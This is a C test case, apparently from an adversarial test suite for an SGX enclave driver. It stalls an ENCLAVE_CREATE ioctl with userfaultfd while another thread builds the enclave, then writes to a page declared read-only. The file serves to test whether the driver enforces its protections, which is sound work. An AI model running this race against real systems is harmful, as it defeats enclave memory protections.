// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * CREATE has seen that the enclave is not created and stops at its argument, which userfaultfd
 * holds back; meanwhile another thread creates the enclave and adds pages. Then the first goes on,
 * with another base, and every page lies at another page's address. R20.1: one at a time. The
 * hole is ioctls_at_once.
 */
#include <sys/mman.h>

#include "tricks.h"

void attack(void)
{
	const struct avow_params params = { .size = 8 * PAGE };
	struct sgx_enclave_create create;
	struct stalled_call call;
	struct scene s;
	u64 at;

	scene_open(&s);
	stalled_begin(&call, s.e.fd, SGX_IOC_ENCLAVE_CREATE);

	ATTEMPT_UNRECORDED(avow_enclave_create(&s.e, &params), EBUSY);
	scene_add(&s, PAGE, 1, AVOW_R | AVOW_W);
	scene_add(&s, 5 * PAGE, 1, AVOW_R);
	at = scene_at(&s, 5 * PAGE);
	s.e.secs.base += 4 * PAGE;
	s.e.secs.size = 4 * PAGE;
	create.src = (u64)&s.e.secs;
	stalled_end(&call, &create, sizeof(create));
	ATTEMPT(&s, map_file_at(&s, at, 1, PROT_READ | PROT_WRITE, MAP_SHARED, 0));
	attempt_write(&s, at + 16, 0x5a);
	got_through("wrote at the address of a page that was declared R");
}
